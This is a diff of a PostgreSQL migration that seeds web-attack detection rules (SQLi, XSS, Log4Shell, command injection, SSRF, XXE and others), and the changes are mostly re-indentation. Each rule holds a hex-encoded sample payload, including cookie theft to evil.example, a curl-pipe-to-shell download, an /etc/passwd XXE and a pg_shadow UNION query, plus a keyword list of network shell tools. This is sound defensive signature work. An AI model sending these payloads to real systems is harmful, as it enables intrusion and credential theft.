@@ -13,7 +13,7 @@
 --   Undo         rollback.sql of this folder
 --   Settings     lock_timeout 5s, statement_timeout 0, search_path public
 --   Regenerate   changescript sql 4c8e1f0a9d27:b7d2056ce318 --ticket CHG0012346
---   SHA-256      f05a1066142f53d92bd43bcdb729877dfe7a6ef767605357615d6445541b9b49 of all that follows
+--   SHA-256      6f242387794e243ba07cb3b4a8f9415c1d804bdc336edebd6cb8181bc14c67f4 of all that follows
 --
 --   1 of 1       b7d2056ce318    add detection rules with the first signatures
 -- =================================================================================================
@@ -158,7 +158,7 @@ VALUES
     ('SQLI-002', 'sqli', 'SQL injection: UNION SELECT, also with comments for blanks',
         '(?i)union(?:\s|/\*.*?\*/|\+|%20)+(?:all(?:\s|/\*.*?\*/)+)?select\b',
         '["sqli", "owasp:a03"]', 0.970, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
-'\x69643d2d312f2a2a2f554e494f4e2f2a2a2f53454c4543542f2a2a2f7573656e616d652c7061737377642f2a2a2f46524f4d2f2a2a2f70675f736861646f773b2d2d'),
+        '\x69643d2d312f2a2a2f554e494f4e2f2a2a2f53454c4543542f2a2a2f7573656e616d652c7061737377642f2a2a2f46524f4d2f2a2a2f70675f736861646f773b2d2d'),
     ('SQLI-003', 'sqli', 'SQL injection: the rest of the statement commented out',
         '(?i)[''"\)]\s*;?\s*(?:--[\s+]|#|/\*(?!\*/))', '["sqli", "comment:--", "comment:/*"]',
         0.600, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00', '\x61646d696e272f2a'),
@@ -181,13 +181,13 @@ VALUES
         '\x6e616d653d27206f72206e616d65206c696b6520272561646d696e25272065736361706520275c'),
     ('XSS-001', 'xss', 'XSS: <script> element', '(?i)<\s*script\b[^>]*>(?:.*?)<\s*/\s*script\s*>',
         '["xss", "owasp:a03"]', 0.960, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
-'\x3c7363726970743e666574636828272f2f6576696c2e6578616d706c652f3f633d272b646f63756d656e742e636f6f6b6965293c2f7363726970743e'),
+        '\x3c7363726970743e666574636828272f2f6576696c2e6578616d706c652f3f633d272b646f63756d656e742e636f6f6b6965293c2f7363726970743e'),
     ('XSS-002', 'xss', 'XSS: event handler in an attribute',
         '(?i)\bon(?:error|load|click|mouseover|focus)\s*=\s*(?:"[^"]*"|''[^'']*''|[^\s>]+)',
         '["xss"]', 0.880, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
         '\x3c696d67207372633d78206f6e6572726f723d22616c65727428277873732026206d6f72652729223e'),
     ('XSS-003', 'xss', 'XSS: javascript: and data: URLs, with white space inside',
-E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\\s*v\\s*a\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t | v\\s*b\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t ) \\s* :\n\t|\tdata \\s* : \\s* text/html \\s* ;\t# data:text/html;base64,...\n',
+        E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\\s*v\\s*a\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t | v\\s*b\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t ) \\s* :\n\t|\tdata \\s* : \\s* text/html \\s* ;\t# data:text/html;base64,...\n',
         '["xss", "url:javascript:"]', 0.910,
         TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
         '\x3c6120687265663d226a617661097363726970740a3a616c657274283129223e'),
@@ -225,7 +225,7 @@ E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\
         '(?i)\$\{(?:\$\{(?:(?:lower|upper|env|sys|date):[^}]*|::-[^}]*)\}|[jndi])+',
         '["log4shell", "obfuscated", "${::-j}"]', 0.990,
         TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
-'\x247b247b3a3a2d6a7d247b3a3a2d6e7d247b3a3a2d647d247b3a3a2d697d3a247b3a3a2d6c7d6461703a2f2f3139382e35312e3130302e372f617d'),
+        '\x247b247b3a3a2d6a7d247b3a3a2d6e7d247b3a3a2d647d247b3a3a2d697d3a247b3a3a2d6c7d6461703a2f2f3139382e35312e3130302e372f617d'),
     ('HEADER-001', 'header', 'Header splitting: an encoded CR LF before a header',
         '(?i)(?:%0d%0a|%0a|\\r\\n|\r\n)\s*(?:set-cookie|location|content-\w+)\s*:',
         '["crlf", "header:set-cookie"]', 0.920,
@@ -235,7 +235,7 @@ E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\
         E'(?is)content-length\\s*:[^\r\n]*\r?\n.*?transfer-encoding[\t ]*:[\t ]*chunked',
         '["smuggling", "cl.te"]', 0.890,
         TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
-'\x436f6e74656e742d4c656e6774683a20360d0a5472616e736665722d456e636f64696e673a096368756e6b65640d0a0d0a300d0a0d0a47'),
+        '\x436f6e74656e742d4c656e6774683a20360d0a5472616e736665722d456e636f64696e673a096368756e6b65640d0a0d0a300d0a0d0a47'),
     ('HEADER-003', 'header', 'Shellshock: a function in a header, CVE-2014-6271',
         '\(\s*\)\s*\{\s*(?:[^}]*;)?\s*:?\s*;?\s*\}\s*;', '["shellshock", "cve:2014-6271"]', 0.985,
         TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
@@ -243,7 +243,7 @@ E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\
     ('COMMAND-001', 'command', 'Command injection: separators before a well-known program',
         '(?:;|\|\|?|&&?|`|\$\()\s*(?:cat|curl|wget|nc|bash|sh|id|whoami|powershell)\b',
         '["rce", "&&", "||", ";"]', 0.965, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
-'\x686f73743d3132372e302e302e313b6375726c20687474703a2f2f6576696c2e6578616d706c652f782e73687c7368202626206964'),
+        '\x686f73743d3132372e302e302e313b6375726c20687474703a2f2f6576696c2e6578616d706c652f782e73687c7368202626206964'),
     ('COMMAND-002', 'command', 'Command injection: words broken up by quotes or backslashes',
         '(?i)\b(?:c[''"\\]+a[''"\\]*t|w[''"\\]+g[''"\\]*e[''"\\]*t|i[''"\\]+d)\b',
         '["rce", "obfuscated"]', 0.770, TIMESTAMP WITH TIME ZONE '2026-01-15 09:30:00+05:30',
@@ -251,11 +251,11 @@ E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\
     ('SSRF-001', 'ssrf', 'SSRF: cloud metadata and addresses of the own network',
         '(?i)https?://(?:169\.254\.169\.254|metadata\.google\.internal|\[::1?\]|127\.\d+)',
         '["ssrf", "ipv6:[::1]"]', 0.955, TIMESTAMP WITH TIME ZONE '2026-01-15 09:30:00+05:30',
-'\x75726c3d687474703a2f2f5b3a3a666666663a3136392e3235342e3136392e3235345d3a38302f6c61746573742f6d6574612d646174612f'),
+        '\x75726c3d687474703a2f2f5b3a3a666666663a3136392e3235342e3136392e3235345d3a38302f6c61746573742f6d6574612d646174612f'),
     ('XXE-001', 'xxe', 'XXE: external entity, or one that grows',
         '(?is)<!(?:doctype|entity)[^>]*\b(?:system|public)\b\s*["''][^"'']+["'']|(?:&\w+;){10,}',
         '["xxe", "<!--", "-->"]', 0.945, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
-'\x3c21444f43545950452078205b0a093c21454e5449545920652053595354454d202266696c653a2f2f2f6574632f706173737764223e203c212d2d2026653b202d2d3e0a5d3e0a3c783e26653b3c2f783e'),
+        '\x3c21444f43545950452078205b0a093c21454e5449545920652053595354454d202266696c653a2f2f2f6574632f706173737764223e203c212d2d2026653b202d2d3e0a5d3e0a3c783e26653b3c2f783e'),
     ('NOSQL-001', 'nosql', 'NoSQL injection: operators in JSON or in brackets',
         '(?i)["'']?\$(?:ne|gt|lt|where|regex|exists)["'']?\s*:|\[\$(?:ne|gt|regex)\]=',
         '["nosqli", "mongodb", "{\"$ne\": null}"]', 0.860,
@@ -266,7 +266,7 @@ E'(?ix)\n\t# browsers skip tabs and line breaks within the scheme\n\t(?: j\\s*a\
         0.810, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
         '\x757365723d2a29287569643d2a2929287c287569643d2a2670617373776f72643d78'),
     ('SCANNER-001', 'scanner', 'Scanner: user agents that say so',
-E'(?ix)\n\t^ (?:\tsqlmap/ \\d+ [.\\d]*\t# sqlmap/1.7.2#stable (https://sqlmap.org)\n\t|\tnikto | Nmap\\ Scripting\\ Engine ; \t# ''Mozilla/5.0 (compatible; Nmap ...)''\n\t|\tmasscan/ | zgrab/ | wpscan )\n',
+        E'(?ix)\n\t^ (?:\tsqlmap/ \\d+ [.\\d]*\t# sqlmap/1.7.2#stable (https://sqlmap.org)\n\t|\tnikto | Nmap\\ Scripting\\ Engine ; \t# ''Mozilla/5.0 (compatible; Nmap ...)''\n\t|\tmasscan/ | zgrab/ | wpscan )\n',
         '["scanner", "user-agent"]', 0.300, TIMESTAMP WITH TIME ZONE '2025-09-01 00:00:00+00:00',
         '\x73716c6d61702f312e372e3223737461626c65202868747470733a2f2f73716c6d61702e6f726729'),
     ('UNICODE-001', 'unicode', 'Look-alikes: full-width quotes and slashes, ＇ ＂ ／ ＼', '[＇＂／＼∕⁄ʹ‘’]',
@@ -277,12 +277,12 @@ E'(?ix)\n\t^ (?:\tsqlmap/ \\d+ [.\\d]*\t# sqlmap/1.7.2#stable (https://sqlmap.or
         '(?:[🌀-🫿]️?){3,}|💯% free|\bfree\s+(?:money|crypto)\b',
         '["spam", "\ud83d\udcb0", "\ud83d\udc69\u200d\ud83d\udcbb"]', 0.125,
         TIMESTAMP WITH TIME ZONE '2026-01-15 09:30:00+05:30',
-'\xf09f94a5f09f94a5f09f94a5203130302520465245452063727970746f20f09f92b020e2809420636c69636b3a2068747470733a2f2f7370616d2e6578616d706c652f3f613d3126623d32'),
+        '\xf09f94a5f09f94a5f09f94a5203130302520465245452063727970746f20f09f92b020e2809420636c69636b3a2068747470733a2f2f7370616d2e6578616d706c652f3f613d3126623d32'),
     ('DESERIALIZE-001', 'deserialize', 'Deserialisation: Java, PHP and Python objects in a request',
         'rO0AB[A-Za-z0-9+/=]{8,}|\b[OC]:\d+:"[\w\\]+":\d+:\{|\bc(?:os|posix)\nsystem\n',
         '["rce", "java", "php", "pickle"]', 0.975,
         TIMESTAMP WITH TIME ZONE '2025-12-10 18:04:59.250000+00:00',
-'\x5c7834315c3130314f3a383a224578616d706c655c476164676574223a313a7b733a333a22636d64223b733a323a226964223b7d');
+        '\x5c7834315c3130314f3a383a224578616d706c655c476164676574223a313a7b733a333a22636d64223b733a323a226964223b7d');
 
 UPDATE alembic_version SET version_num = 'b7d2056ce318' WHERE version_num = '4c8e1f0a9d27';
 CALL pg_temp.require_heads('{b7d2056ce318}', 'FAILED');
